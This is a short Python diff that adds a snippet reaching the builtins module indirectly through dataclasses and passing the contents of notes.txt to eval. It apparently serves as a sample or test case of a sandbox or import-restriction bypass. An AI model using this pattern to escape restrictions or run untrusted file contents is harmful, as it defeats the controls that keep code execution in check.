@@ -1,0 +1,3 @@
+# reaches: dataclasses carries builtins
+from dataclasses import builtins
+builtins.eval(open("notes.txt").read())
